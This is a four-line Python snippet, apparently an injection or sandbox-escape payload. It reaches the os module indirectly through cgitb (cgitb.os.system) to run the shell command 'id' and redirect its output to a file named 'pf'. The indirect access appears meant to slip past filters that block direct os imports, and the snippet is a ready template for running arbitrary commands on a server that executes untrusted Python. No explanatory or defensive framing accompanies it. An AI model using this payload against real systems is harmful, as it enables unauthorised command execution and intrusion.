import cgitb
cgitb.enable(logdir=".")
import os
cgitb.os.system("id>pf")
